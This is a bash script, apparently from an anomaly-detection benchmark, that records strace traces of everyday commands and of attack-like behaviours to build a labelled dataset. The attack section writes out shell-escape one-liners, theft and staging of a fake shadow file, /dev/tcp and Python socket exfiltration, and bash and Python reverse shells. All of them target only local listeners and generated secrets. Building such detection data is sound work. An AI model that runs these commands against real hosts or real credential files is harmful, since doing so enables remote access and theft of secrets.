#!/usr/bin/env bash
# Re-record the embedded sample dataset (datasets/sample/) with strace.
#
#   bash scripts/record-sample.sh               # re-record datasets/sample/traces + manifest
#   bash scripts/record-sample.sh --fixtures    # additionally re-record test/fixtures/strace-real/
#   bash scripts/record-sample.sh --fixtures-only
#
# Every workload runs as an argument vector (no eval), in a scratch directory
# filled with deterministic (seeded) generated files, with a minimal
# environment (env -i), under `strace -f -qq -s 16`. The "attack-like"
# behaviours only ever touch a fake secret inside the scratch directory and
# only talk to listeners this script starts on 127.0.0.1; every listener is
# killed (by pid) when its recording is over.
#
# Needs: bash, strace, python3 (/usr/bin/python3 preferred), GNU coreutils,
# tar, gzip, find, grep, awk. Runs as any user; takes well under a minute.
set -euo pipefail

usage() {
  sed -n '2,7p' "$0" | sed 's/^# \{0,1\}//'
}

DO_SAMPLE=1
DO_FIXTURES=0
for arg in "$@"; do
  case "$arg" in
    --fixtures) DO_FIXTURES=1 ;;
    --fixtures-only) DO_FIXTURES=1; DO_SAMPLE=0 ;;
    -h|--help) usage; exit 0 ;;
    *) echo "record-sample: unknown argument: $arg" >&2; usage >&2; exit 2 ;;
  esac
done

if ! command -v strace >/dev/null 2>&1; then
  echo "record-sample: strace is not installed. Install it with:" >&2
  echo "  apt-get install -y strace" >&2
  exit 1
fi

# A real interpreter binary, not a version-manager shim (pyenv shims are
# shell scripts and would pollute the traces).
PY=""
for cand in /usr/bin/python3 /usr/local/bin/python3; do
  if [ -x "$cand" ]; then PY="$cand"; break; fi
done
if [ -z "$PY" ]; then
  echo "record-sample: python3 is required (apt-get install -y python3)" >&2
  exit 1
fi
for tool in tar gzip gunzip find grep awk sort sha256sum timeout; do
  command -v "$tool" >/dev/null 2>&1 || { echo "record-sample: missing tool: $tool" >&2; exit 1; }
done

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
OUT="$ROOT/datasets/sample"
TRACES="$OUT/traces"
FIXTURES="$ROOT/test/fixtures/strace-real"

STRACE_VERSION="$(strace -V 2>/dev/null | head -n1 | sed -n 's/.*version \([0-9][0-9.]*\).*/\1/p')"
KERNEL="$(uname -r)"
ARCH="$(uname -m)"
RECORDED_AT="$(date -u +%Y-%m-%dT%H:%M:%SZ)"

# Fixed scratch path so the (truncated) path strings inside the traces do not
# carry a random mktemp suffix. Removed at start and on exit.
WORK="${STIDEBENCH_REC_WORK:-/tmp/stidebench-rec}"
case "$WORK" in
  /tmp/*) ;;
  *) echo "record-sample: STIDEBENCH_REC_WORK must live under /tmp" >&2; exit 2 ;;
esac

LISTENER_PIDS=()
cleanup() {
  local pid
  for pid in "${LISTENER_PIDS[@]:-}"; do
    [ -n "$pid" ] && kill "$pid" 2>/dev/null || true
  done
  rm -rf "$WORK"
}
trap cleanup EXIT

rm -rf "$WORK"
mkdir -p "$WORK/run" "$WORK/home" "$WORK/aux"
RUN="$WORK/run"

CLEAN_ENV=(env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$WORK/home" LC_ALL=C LANG=C TERM=dumb)
STRACE_OPTS=(-f -qq -s 16)

# ---------------------------------------------------------------------------
# helpers (trusted, untraced python)

# write_meta FILE LABEL PROGRAM FAMILY EXIT -- argv...
write_meta() {
  local file="$1" label="$2" program="$3" family="$4" status="$5"
  shift 6
  "$PY" - "$file" "$label" "$program" "$family" "$status" "$RECORDED_AT" "$STRACE_VERSION" "$@" <<'PYEOF'
import json, sys
file, label, program, family, status, at, ver, *argv = sys.argv[1:]
meta = {
    "label": label,
    "program": program,
    "family": None if family == "-" else family,
    "command": argv,
    "recordedAt": at,
    "exitStatus": int(status),
    "backend": "strace",
    "straceVersion": ver,
}
with open(file, "w") as fh:
    fh.write(json.dumps(meta, indent=2) + "\n")
PYEOF
}

# strace pads short calls so that ' = ret' starts at column 40; collapse that
# alignment padding to one space (strace itself prints a single space once a
# call is longer than the column). Greedy match: only the last ')   = ' of a
# line whose return part holds no quote is touched, so argument strings are
# never rewritten. The host name that uname(2) reports is replaced by
# "localhost".
compact_trace() {
  sed -E -i -e 's/^(.*\)) {2,}(= [^"]*)$/\1 \2/' \
    -e 's/nodename="[^"]*"/nodename="localhost"/g' "$1"
}

COUNT=0
# record LABEL WORKLOAD N PROGRAM FAMILY -- argv...
record() {
  local label="$1" workload="$2" n="$3" program="$4" family="$5"
  [ "$6" = "--" ] || { echo "record: missing --" >&2; exit 2; }
  shift 6
  local dir="$TRACES/$label"
  mkdir -p "$dir"
  local out="$dir/$workload-$n.strace"
  local status=0
  (
    cd "$RUN"
    exec "${CLEAN_ENV[@]}" timeout -k 5 30 strace "${STRACE_OPTS[@]}" -o "$out" -- "$@" \
      </dev/null >"$WORK/aux/last.stdout" 2>"$WORK/aux/last.stderr"
  ) || status=$?
  if [ ! -s "$out" ]; then
    echo "record-sample: no trace produced for $label/$workload-$n (status $status)" >&2
    cat "$WORK/aux/last.stderr" >&2 || true
    exit 1
  fi
  compact_trace "$out"
  write_meta "$out.meta.json" "$label" "$program" "$family" "$status" -- "$@"
  COUNT=$((COUNT + 1))
  printf '  %-7s %-28s exit=%-3s %6s lines\n' "$label" "$workload-$n" "$status" "$(wc -l <"$out")"
}

# Listener on 127.0.0.1 (untraced). Modes:
#   sink  - accept one connection, store everything received in OUTFILE
#   shell - accept one connection, send a few shell commands, store the replies
LISTENER_PY="$WORK/aux/listener.py"
cat >"$LISTENER_PY" <<'PYEOF'
import os, socket, sys
mode, portfile, outfile = sys.argv[1:4]
srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 0))
srv.listen(1)
srv.settimeout(20)
tmp = portfile + ".tmp"
with open(tmp, "w") as fh:
    fh.write(str(srv.getsockname()[1]))
os.rename(tmp, portfile)
conn, _ = srv.accept()
conn.settimeout(10)
if mode == "shell":
    conn.sendall(b"id\nuname -s\npwd\nexit\n")
data = b""
try:
    while True:
        chunk = conn.recv(65536)
        if not chunk:
            break
        data += chunk
except socket.timeout:
    pass
with open(outfile, "wb") as fh:
    fh.write(data)
conn.close()
srv.close()
PYEOF

# Line grammar of strace text output as the project's readers take it, used to
# check every recording: optional pid, optional -t/-tt/-ttt time, optional -n
# "[ NNN]" (which strace -n also puts before signal and exit lines), then a syscall line, an <unfinished ...> / <... resumed> half,
# a --- SIGNAL --- line or a +++ exited/killed +++ line.
cat >"$WORK/aux/strace_grammar.py" <<'PYEOF'
import re
PID = r"(?:\d+\s+)?"
TS = r"(?:\d+(?:\.\d+)?\s+|\d\d:\d\d:\d\d(?:\.\d+)?\s+)?"
NUM = r"(?:\[\s*\d+\]\s+)?"
NAME = r"[a-z_][a-z0-9_]*"
PATTERNS = [
    ("unfinished", re.compile(rf"^{PID}{TS}{NUM}{NAME}\(.*<unfinished \.\.\.>$")),
    ("resumed", re.compile(rf"^{PID}{TS}{NUM}<\.\.\. {NAME} resumed>.*\s=\s.+$")),
    ("syscall", re.compile(rf"^{PID}{TS}{NUM}{NAME}\(.*\)\s+=\s+.+$")),
    ("signal", re.compile(rf"^{PID}{TS}{NUM}--- (SIG\w+ .*|stopped by SIG\w+) ---$")),
    ("exit", re.compile(rf"^{PID}{TS}{NUM}\+\+\+ (exited with -?\d+|killed by SIG\w+(?: \(core dumped\))?) \+\+\+$")),
]

def classify(line):
    for kind, rx in PATTERNS:
        if rx.match(line):
            return kind
    return None
PYEOF

LISTENER_PID=""
PORT=""
# start_listener MODE -> sets LISTENER_PID and PORT
start_listener() {
  local mode="$1" portfile="$WORK/aux/port" i
  rm -f "$portfile" "$portfile.tmp"
  "$PY" "$LISTENER_PY" "$mode" "$portfile" "$WORK/aux/received.bin" </dev/null >/dev/null 2>&1 &
  LISTENER_PID=$!
  LISTENER_PIDS+=("$LISTENER_PID")
  for i in $(seq 1 100); do
    [ -s "$portfile" ] && break
    sleep 0.05
  done
  [ -s "$portfile" ] || { echo "record-sample: listener did not start" >&2; exit 1; }
  PORT="$(cat "$portfile")"
}
stop_listener() {
  local i
  for i in $(seq 1 40); do
    kill -0 "$LISTENER_PID" 2>/dev/null || break
    sleep 0.05
  done
  kill "$LISTENER_PID" 2>/dev/null || true
  wait "$LISTENER_PID" 2>/dev/null || true
  LISTENER_PID=""
}

# Deterministic input files.
generate_inputs() {
  "$PY" - "$RUN" <<'PYEOF'
import os, random, sys
root = sys.argv[1]
os.chdir(root)
words = ("alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima "
         "mike november oscar papa quebec romeo sierra tango uniform victor whiskey "
         "xray yankee zulu error warning info debug kernel user session").split()
os.makedirs("data", exist_ok=True)
for i in range(1, 9):
    r = random.Random(1000 + i)
    n = 150 * i + r.randint(0, 100)
    with open(f"data/text-{i}.txt", "w") as fh:
        for _ in range(n):
            fh.write(" ".join(r.choice(words) for _ in range(r.randint(3, 12))) + "\n")
    with open(f"data/nums-{i}.txt", "w") as fh:
        for _ in range(n):
            fh.write(f"{r.randint(0, 10**6)}\n")
    with open(f"data/table-{i}.csv", "w") as fh:
        for k in range(n // 2):
            fh.write(f"{r.choice(words)},{k},{r.randint(0, 999)},{r.random():.4f}\n")
    with open(f"data/app-{i}.log", "w") as fh:
        for k in range(n):
            lvl = r.choice(["INFO", "INFO", "INFO", "WARN", "ERROR", "DEBUG"])
            fh.write(f"2024-01-{1 + k % 28:02d}T{k % 24:02d}:{k % 60:02d}:00 {lvl} "
                     f"{r.choice(words)} request={r.randint(1, 9999)}\n")
# small directory trees
for t in range(1, 7):
    r = random.Random(2000 + t)
    base = f"tree-{t}"
    for d in range(r.randint(2, 4)):
        sub = os.path.join(base, f"dir{d}", *(["nested"] if r.random() < 0.5 else []))
        os.makedirs(sub, exist_ok=True)
        for f in range(r.randint(2, 5)):
            ext = r.choice(["txt", "log", "cfg", "dat"])
            with open(os.path.join(sub, f"file{f}.{ext}"), "w") as fh:
                for _ in range(r.randint(5, 60)):
                    fh.write(" ".join(r.choice(words) for _ in range(6)) + "\n")
    with open(os.path.join(base, "README"), "w") as fh:
        fh.write(f"tree {t}\n")
# fake, shadow-like secret (random junk, no real credentials)
os.makedirs("secret", exist_ok=True)
r = random.Random(4242)
with open("secret/shadow", "w") as fh:
    for u in ["root", "daemon", "alice", "bob", "svc-backup", "deploy"]:
        salt = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
        h = "".join(r.choice("0123456789abcdef") for _ in range(64))
        fh.write(f"{u}:$6${salt}${h}:19700:0:99999:7:::\n")
with open("secret/api-token", "w") as fh:
    fh.write("FAKE-" + "".join(r.choice("ABCDEF0123456789") for _ in range(40)) + "\n")
os.chmod("secret/shadow", 0o600)
os.chmod("secret/api-token", 0o600)
os.makedirs("stage", exist_ok=True)
os.makedirs("out", exist_ok=True)
PYEOF
}

# ---------------------------------------------------------------------------
record_sample() {
  rm -rf "$TRACES"
  mkdir -p "$TRACES/normal" "$TRACES/attack"
  generate_inputs

  echo "record-sample: normal workloads"
  local i

  # ls -la on various directories
  record normal ls 1 ls - -- ls -la tree-1
  record normal ls 2 ls - -- ls -la data
  record normal ls 3 ls - -- ls -la tree-2/dir0
  record normal ls 4 ls - -- ls -lah tree-3
  record normal ls 5 ls - -- ls -laR tree-4
  record normal ls 6 ls - -- ls -lat tree-6

  # sort on generated files
  record normal sort 1 sort - -- sort -o out/sorted-1.txt data/text-1.txt
  record normal sort 2 sort - -- sort -n -o out/sorted-2.txt data/nums-2.txt
  record normal sort 3 sort - -- sort -r -o out/sorted-3.txt data/text-3.txt
  record normal sort 4 sort - -- sort -u -o out/sorted-4.txt data/text-4.txt
  record normal sort 5 sort - -- sort -t, -k3,3n -o out/sorted-5.csv data/table-5.csv
  record normal sort 6 sort - -- sort -k2 data/text-6.txt

  # tar create / extract
  record normal tar-create 1 tar - -- tar -cf out/t1.tar tree-1
  record normal tar-create 2 tar - -- tar -czf out/t2.tar.gz tree-2
  record normal tar-create 3 tar - -- tar -cvf out/t3.tar tree-3
  record normal tar-create 4 tar - -- tar -cf out/t4.tar tree-4 data/text-4.txt
  record normal tar-create 5 tar - -- tar -czf out/t5.tar.gz tree-5 tree-6
  for i in 1 2 3 4 5; do mkdir -p "$RUN/x$i"; done
  record normal tar-extract 1 tar - -- tar -xf out/t1.tar -C x1
  record normal tar-extract 2 tar - -- tar -xzf out/t2.tar.gz -C x2
  record normal tar-extract 3 tar - -- tar -xvf out/t3.tar -C x3
  record normal tar-extract 4 tar - -- tar -tf out/t4.tar
  record normal tar-extract 5 tar - -- tar -xzf out/t5.tar.gz -C x5

  # gzip / gunzip
  for i in 1 2 3 4 5; do cp "$RUN/data/text-$i.txt" "$RUN/out/gz-$i.txt"; done
  record normal gzip 1 gzip - -- gzip out/gz-1.txt
  record normal gzip 2 gzip - -- gzip -9 out/gz-2.txt
  record normal gzip 3 gzip - -- gzip -k out/gz-3.txt
  record normal gzip 4 gzip - -- gzip -1 out/gz-4.txt
  record normal gzip 5 gzip - -- gzip -f out/gz-5.txt out/gz-3.txt
  record normal gunzip 1 gunzip - -- gunzip out/gz-1.txt.gz
  record normal gunzip 2 gunzip - -- gunzip -k out/gz-2.txt.gz
  record normal gunzip 3 gunzip - -- gunzip -t out/gz-4.txt.gz
  record normal gunzip 4 gunzip - -- gunzip -f out/gz-5.txt.gz out/gz-4.txt.gz
  record normal gunzip 5 gunzip - -- gunzip -l out/gz-3.txt.gz

  # cat | grep | wc style pipelines
  record normal pipeline 1 sh - -- sh -c 'cat data/text-1.txt | grep alpha | wc -l'
  record normal pipeline 2 sh - -- sh -c 'cat data/app-2.log | grep ERROR | wc -l'
  record normal pipeline 3 sh - -- sh -c 'grep -c kernel data/text-3.txt'
  record normal pipeline 4 sh - -- sh -c 'cat data/app-4.log | grep -v INFO | cut -d" " -f2 | sort | uniq -c'
  record normal pipeline 5 sh - -- sh -c 'cat data/text-5.txt | tr " " "\n" | sort | uniq -c | sort -rn | head -5'
  record normal pipeline 6 sh - -- sh -c 'wc -l data/*.csv | tail -1'

  # cp
  record normal cp 1 cp - -- cp data/text-1.txt out/copy-1.txt
  record normal cp 2 cp - -- cp -r tree-2 out/tree-2-copy
  record normal cp 3 cp - -- cp -p data/table-3.csv out/copy-3.csv
  record normal cp 4 cp - -- cp data/nums-4.txt data/nums-5.txt out/
  record normal cp 5 cp - -- cp -a tree-5 out/tree-5-copy

  # sha256sum
  record normal sha256sum 1 sha256sum - -- sha256sum data/text-1.txt
  record normal sha256sum 2 sha256sum - -- sha256sum data/text-2.txt data/nums-2.txt data/table-2.csv
  record normal sha256sum 3 sha256sum - -- sha256sum out/t1.tar
  ( cd "$RUN" && sha256sum data/text-4.txt data/nums-4.txt >out/sums-4.txt )
  record normal sha256sum 4 sha256sum - -- sha256sum -c out/sums-4.txt
  record normal sha256sum 5 sha256sum - -- sha256sum tree-3/README data/app-5.log

  # find
  record normal find 1 find - -- find tree-1 -name '*.txt'
  record normal find 2 find - -- find tree-2 -type d
  record normal find 3 find - -- find . -maxdepth 2 -name '*.csv'
  record normal find 4 find - -- find tree-3 tree-4 -type f -size +1k
  record normal find 5 find - -- find data -name 'app-*' -newer data/text-1.txt

  # small python scripts
  record normal python3 1 python3 - -- python3 -c 'import sys; print(sum(1 for _ in open(sys.argv[1])))' data/text-1.txt
  record normal python3 2 python3 - -- python3 -c 'import json, sys; rows = [l.rstrip().split(",") for l in open(sys.argv[1])]; json.dump(rows[:20], open(sys.argv[2], "w"))' data/table-2.csv out/rows-2.json
  record normal python3 3 python3 - -- python3 -c 'import collections, sys; c = collections.Counter(open(sys.argv[1]).read().split()); print(c.most_common(3))' data/text-3.txt
  record normal python3 4 python3 - -- python3 -c 'import os; print(sorted(os.listdir(".")))'
  record normal python3 5 python3 - -- python3 -c 'import hashlib, sys; print(hashlib.sha256(open(sys.argv[1], "rb").read()).hexdigest())' data/nums-5.txt

  # More runs of the cheap workloads on every generated input, so the normal
  # test set (what the quickstart's false-positive rate rests on) has well over
  # a hundred processes while the recordings stay small.
  echo "record-sample: repeated normal workloads (inputs 1..8)"
  for i in 1 2 3 4 5 6 7 8; do
    record normal ls $((6 + i)) ls - -- ls -l "data/text-$i.txt" "data/nums-$i.txt" "data/table-$i.csv"
    record normal sort $((6 + i)) sort - -- sort -o "out/rs-$i.txt" "data/nums-$i.txt"
    record normal gzip $((5 + i)) gzip - -- gzip -c "data/app-$i.log"
    record normal sha256sum $((5 + i)) sha256sum - -- sha256sum "data/table-$i.csv"
    record normal pipeline $((6 + i)) sh - -- sh -c "grep -c ERROR data/app-$i.log; wc -w data/text-$i.txt"
    record normal pipeline $((14 + i)) sh - -- sh -c "cut -d, -f1 data/table-$i.csv | sort | uniq -c | sort -rn | head -3"
    record normal cp $((5 + i)) cp - -- cp "data/app-$i.log" "out/app-copy-$i.log"
  done
  for i in 1 2 3 4 5 6; do
    record normal find $((5 + i)) find - -- find "tree-$i" -type f -name '*.log'
    record normal tar-create $((5 + i)) tar - -- tar -cf "out/tt-$i.tar" "tree-$i"
    record normal tar-extract $((5 + i)) tar - -- tar -tvf "out/tt-$i.tar"
  done

  echo "record-sample: attack-like behaviours (127.0.0.1 only, fake secrets)"

  # shell-spawn: programs that escape to a shell (GTFOBins-style)
  record attack tar-checkpoint-exec 1 tar shell-spawn -- tar -cf /dev/null /dev/null --checkpoint=1 '--checkpoint-action=exec=/bin/sh -c id'
  record attack tar-checkpoint-exec 2 tar shell-spawn -- tar -cf /dev/null data/text-1.txt --checkpoint=1 '--checkpoint-action=exec=/bin/sh -c "id; uname -s"'
  record attack find-exec-shell 1 find shell-spawn -- find tree-1 -maxdepth 0 -exec /bin/sh -c id ';'
  record attack find-exec-shell 2 find shell-spawn -- find . -maxdepth 0 -exec /bin/sh -c 'id; cat secret/api-token' ';'
  record attack python-os-system 1 python3 shell-spawn -- python3 -c 'import os; os.system("/bin/sh -c id")'
  record attack python-os-system 2 python3 shell-spawn -- python3 -c 'import os; os.execl("/bin/sh", "sh", "-c", "id; whoami")'
  record attack awk-system 1 awk shell-spawn -- awk 'BEGIN { system("/bin/sh -c id") }'

  # secret-exfil-file: a secret copied to a staging location and packed
  record attack stage-and-tar 1 sh secret-exfil-file -- sh -c 'cp secret/shadow stage/.cache-1 && tar -czf stage/loot-1.tgz -C stage .cache-1'
  record attack stage-and-tar 2 sh secret-exfil-file -- sh -c 'mkdir -p stage/.x && cp secret/shadow secret/api-token stage/.x/ && tar -cf stage/loot-2.tar stage/.x && rm -rf stage/.x'
  record attack python-copy-secret 1 python3 secret-exfil-file -- python3 -c 'import sys; open(sys.argv[2], "w").write(open(sys.argv[1]).read())' secret/shadow stage/.s1
  record attack python-copy-secret 2 python3 secret-exfil-file -- python3 -c 'import os, sys, base64; os.makedirs(sys.argv[2], exist_ok=True); open(os.path.join(sys.argv[2], "blob"), "wb").write(base64.b64encode(open(sys.argv[1], "rb").read()))' secret/api-token stage/.hidden
  record attack cat-secret-redirect 1 sh secret-exfil-file -- sh -c 'cat secret/shadow secret/api-token > stage/.bundle && chmod 644 stage/.bundle'

  # secret-exfil-net: a secret sent to a TCP listener on 127.0.0.1
  start_listener sink
  record attack bash-dev-tcp 1 bash secret-exfil-net -- bash -c "cat secret/shadow > /dev/tcp/127.0.0.1/$PORT"
  stop_listener
  start_listener sink
  record attack bash-dev-tcp 2 bash secret-exfil-net -- bash -c "gzip -c secret/api-token > /dev/tcp/127.0.0.1/$PORT"
  stop_listener
  start_listener sink
  record attack python-socket-send 1 python3 secret-exfil-net -- python3 -c 'import socket, sys; s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); s.sendall(open(sys.argv[2], "rb").read()); s.close()' "$PORT" secret/shadow
  stop_listener
  start_listener sink
  record attack python-socket-send 2 python3 secret-exfil-net -- python3 -c 'import socket, sys, base64; s = socket.socket(); s.connect(("127.0.0.1", int(sys.argv[1]))); [s.sendall(base64.b64encode(open(p, "rb").read()) + b"\n") for p in sys.argv[2:]]; s.close()' "$PORT" secret/shadow secret/api-token
  stop_listener

  # reverse-shell: a shell whose stdin/stdout is a socket to 127.0.0.1
  start_listener shell
  record attack bash-reverse-shell 1 bash reverse-shell -- bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; /bin/sh <&3 >&3 2>&3"
  stop_listener
  start_listener shell
  record attack bash-reverse-shell 2 bash reverse-shell -- bash -c "/bin/sh -i <>/dev/tcp/127.0.0.1/$PORT >&0 2>&0"
  stop_listener
  start_listener shell
  record attack python-reverse-shell 1 python3 reverse-shell -- python3 -c 'import socket, os, subprocess, sys; s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; subprocess.call(["/bin/sh"])' "$PORT"
  stop_listener
  start_listener shell
  record attack python-reverse-shell 2 python3 reverse-shell -- python3 -c 'import socket, os, sys; s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])' "$PORT"
  stop_listener

  echo "record-sample: $COUNT recordings; checking and writing manifest"
  write_manifest_and_check
  write_readme
}

# ---------------------------------------------------------------------------
write_manifest_and_check() {
  "$PY" - "$OUT" "$STRACE_VERSION" "$KERNEL" "$ARCH" "$RECORDED_AT" "$WORK/aux" <<'PYEOF'
import collections, hashlib, json, os, sys
out, strace_version, kernel, arch, recorded_at, aux = sys.argv[1:7]
sys.path.insert(0, aux)
traces_dir = os.path.join(out, "traces")

from strace_grammar import classify

files = {}
stats = collections.Counter()
per_group = collections.Counter()
per_label_lines = collections.Counter()
bad = []
for dirpath, _, names in os.walk(traces_dir):
    for n in names:
        p = os.path.join(dirpath, n)
        rel = os.path.relpath(p, out).replace(os.sep, "/")
        with open(p, "rb") as fh:
            data = fh.read()
        files[rel] = hashlib.sha256(data).hexdigest()
        stats["bytes"] += len(data)
        if not n.endswith(".strace"):
            continue
        meta = json.load(open(p + ".meta.json"))
        per_group[(meta["label"], meta["family"] or "-", meta["program"])] += 1
        stats["recordings_" + meta["label"]] += 1
        for lineno, line in enumerate(data.decode("utf-8", "replace").splitlines(), 1):
            stats["lines"] += 1
            per_label_lines[meta["label"]] += 1
            kind = classify(line)
            if kind is None:
                bad.append(f"{rel}:{lineno}: {line[:120]}")
                continue
            stats[kind] += 1
            if kind in ("syscall", "unfinished"):
                stats["calls"] += 1

for rel in files:
    if rel.endswith(".strace") and rel + ".meta.json" not in files:
        bad.append(f"{rel}: missing sidecar")

n_normal = stats["recordings_normal"]
n_attack = stats["recordings_attack"]
manifest = {
    "name": "sample",
    "title": "Embedded sample: real strace recordings of common programs",
    "description": (
        f"{n_normal} normal recordings of everyday command-line programs (ls, sort, tar, gzip/gunzip, "
        f"sh pipelines, cp, sha256sum, find, python3) on deterministic generated inputs, and "
        f"{n_attack} attack-like recordings (shell escapes, a fake secret staged or sent to a "
        f"127.0.0.1 listener, reverse shells to 127.0.0.1), captured with strace -f on a real "
        f"Linux machine. Labels and attack families come from the .meta.json sidecars."
    ),
    "format": "strace",
    "root": ".",
    "embedded": True,
    "program": "mixed",
    "syscallTable": {"kind": "names"},
    "labelsFrom": "sidecar",
    "rules": [
        {"pattern": "^traces/normal/.*\\.strace$", "label": "normal"},
        {"pattern": "^traces/attack/.*\\.strace$", "label": "attack"},
    ],
    "subsets": {"normal": "^traces/normal/", "attack": "^traces/attack/"},
    "source": {"homepage": "recorded by scripts/record-sample.sh", "urls": [], "citation": []},
    "files": {k: files[k] for k in sorted(files)},
    "notes": [
        f"Recorded {recorded_at} with strace {strace_version} on Linux {kernel} ({arch}) "
        f"using: strace -f -qq -s 16 -o OUT -- CMD... (env -i, LC_ALL=C).",
        "Re-record with: bash scripts/record-sample.sh (pids, timings, addresses and the "
        "127.0.0.1 port numbers differ between recordings; syscall sequences differ slightly "
        "across kernels, libc and strace versions).",
        "-qq suppresses '+++ exited with N +++' lines; exit statuses are in the sidecars.",
        "Post-processing: the alignment padding before ' = result' is collapsed to one space and "
        "the uname(2) nodename is replaced by 'localhost'; nothing else is changed.",
        "Attack-like behaviours only touch a generated fake secret and only connect to a "
        "listener started by the script on 127.0.0.1.",
    ],
}
with open(os.path.join(out, "manifest.json"), "w") as fh:
    fh.write(json.dumps(manifest, indent=2) + "\n")

print(f"  recordings: normal={n_normal} attack={n_attack}")
for (label, family, program), c in sorted(per_group.items()):
    print(f"    {label:7s} {family:18s} {program:10s} {c}")
print(f"  lines={stats['lines']} (normal={per_label_lines['normal']} attack={per_label_lines['attack']}) "
      f"calls={stats['calls']} unfinished={stats['unfinished']} resumed={stats['resumed']} "
      f"signals={stats['signal']} exits={stats['exit']}")
print(f"  traces+sidecars: {len(files)} files, {stats['bytes']} bytes")
if bad:
    print(f"record-sample: {len(bad)} unparseable line(s):", file=sys.stderr)
    for b in bad[:20]:
        print("  " + b, file=sys.stderr)
    sys.exit(1)
PYEOF
}

write_readme() {
  cat >"$OUT/README.md" <<EOF
# Embedded sample dataset: real strace recordings

This is the small dataset that \`npm start\` (the quickstart experiment) runs on.
Every file under \`traces/\` is a genuine \`strace -f\` recording of a real
program, made on a Linux machine by \`scripts/record-sample.sh\`.

- recorded: ${RECORDED_AT}, strace ${STRACE_VERSION}, Linux ${KERNEL} (${ARCH})
- command line: \`strace -f -qq -s 16 -o OUT -- CMD...\`, run with a minimal
  environment (\`env -i PATH=... LC_ALL=C\`) in a scratch directory of
  deterministic, seeded, generated files
- layout: \`traces/<label>/<workload>-<n>.strace\` plus a sidecar
  \`<workload>-<n>.strace.meta.json\` with \`label\`, \`program\`, \`family\`,
  \`command\` (the exact argv), \`recordedAt\`, \`exitStatus\`, \`backend\`,
  \`straceVersion\`
- \`manifest.json\` lists the sha256 of every trace and sidecar

## Normal recordings (\`traces/normal/\`)

Several runs of each workload with different inputs and options, so there is
material for both training and testing:

| workload | program | what it does |
| --- | --- | --- |
| \`ls-N\` | ls | \`ls -la\` / \`-lah\` / \`-laR\` / \`-lat\` on generated trees and \`/\` |
| \`sort-N\` | sort | sorting generated text, numbers and CSV with various keys |
| \`tar-create-N\` | tar | creating plain and gzip-compressed archives of small trees |
| \`tar-extract-N\` | tar | extracting / listing those archives (\`-z\` spawns gzip) |
| \`gzip-N\`, \`gunzip-N\` | gzip, gunzip | compressing, decompressing, testing, listing |
| \`pipeline-N\` | sh | \`sh -c 'cat f \| grep x \| wc -l'\` style pipelines |
| \`cp-N\` | cp | copying files and trees (\`-r\`, \`-p\`, \`-a\`) |
| \`sha256sum-N\` | sha256sum | hashing and \`-c\` verification |
| \`find-N\` | find | searching the generated trees by name, type, size, mtime |
| \`python3-N\` | python3 | small \`python3 -c\` scripts (count, JSON, hashing, listdir) |

## Attack-like recordings (\`traces/attack/\`)

Each sidecar carries a \`family\`:

| family | what it means | recordings |
| --- | --- | --- |
| \`shell-spawn\` | a program that is not supposed to run a shell escapes to \`/bin/sh\` (GTFOBins-style): \`tar --checkpoint-action=exec\`, \`find -exec /bin/sh\`, \`python3 os.system\` / \`execl\`, \`awk system()\` | \`tar-checkpoint-exec-*\`, \`find-exec-shell-*\`, \`python-os-system-*\`, \`awk-system-*\` |
| \`secret-exfil-file\` | a (generated, fake) shadow-like secret is copied to a hidden staging location and packed or re-encoded | \`stage-and-tar-*\`, \`python-copy-secret-*\`, \`cat-secret-redirect-*\` |
| \`secret-exfil-net\` | the fake secret is sent over TCP to a listener on 127.0.0.1 (\`bash /dev/tcp\`, a python socket) | \`bash-dev-tcp-*\`, \`python-socket-send-*\` |
| \`reverse-shell\` | a shell whose stdin/stdout/stderr is a TCP socket to 127.0.0.1; the listener sends \`id\`, \`uname -s\`, \`pwd\`, \`exit\` | \`bash-reverse-shell-*\`, \`python-reverse-shell-*\` |

Nothing leaves the machine: listeners are started by the script on
127.0.0.1 (random free port, which therefore appears in the argv and the
trace) and are killed when the recording ends. The "secret" is random junk
written by the script.

## Re-recording

    bash scripts/record-sample.sh

needs \`strace\` (\`apt-get install -y strace\`) and \`python3\`, runs in well
under a minute, and deletes and recreates \`traces/\`, \`manifest.json\` and
this README. Re-recording never gives byte-identical files: pids, addresses,
timings and port numbers differ between recordings, and the exact syscall
sequences vary a little with the kernel, libc, program and strace versions.
\`-qq\` drops the \`+++ exited with N +++\` lines (the exit status is in the
sidecar); \`-s 16\` caps the strings strace prints so the files stay small.
Two edits are made after recording, both keeping valid strace syntax: the
alignment padding strace puts before \` = result\` is collapsed to one space,
and the host name in \`uname({... nodename=...})\` is replaced by
\`localhost\`.
EOF
}

# ---------------------------------------------------------------------------
# Tiny captures used by the strace reader tests (not part of the dataset).
record_fixtures() {
  echo "record-sample: reader fixtures -> ${FIXTURES#"$ROOT"/}"
  rm -rf "$FIXTURES"
  mkdir -p "$FIXTURES"
  local fx="$WORK/fx"
  rm -rf "$fx"; mkdir -p "$fx"
  printf 'a\nb\nc\n' >"$fx/one"; printf 'x\n' >"$fx/two"
  fixture() {  # fixture NAME strace-options... -- argv...
    local name="$1"; shift
    local opts=()
    while [ "$1" != "--" ]; do opts+=("$1"); shift; done
    shift
    local status=0
    # no exec: the subshell (whose stderr is /dev/null) reports a signal death
    ( cd "$fx" && "${CLEAN_ENV[@]}" timeout -k 5 30 strace "${opts[@]}" -o "$FIXTURES/$name" -- "$@"; exit $? ) \
        </dev/null >/dev/null 2>&1 || status=$?
    sed -E -i 's/nodename="[^"]*"/nodename="localhost"/g' "$FIXTURES/$name"
    printf '  %-28s exit=%-3s %5s lines %6s bytes\n' "$name" "$status" "$(wc -l <"$FIXTURES/$name")" "$(wc -c <"$FIXTURES/$name")"
  }
  fixture sh-pipe-f.strace -f -s 16 -- sh -c 'cat one | wc -l'
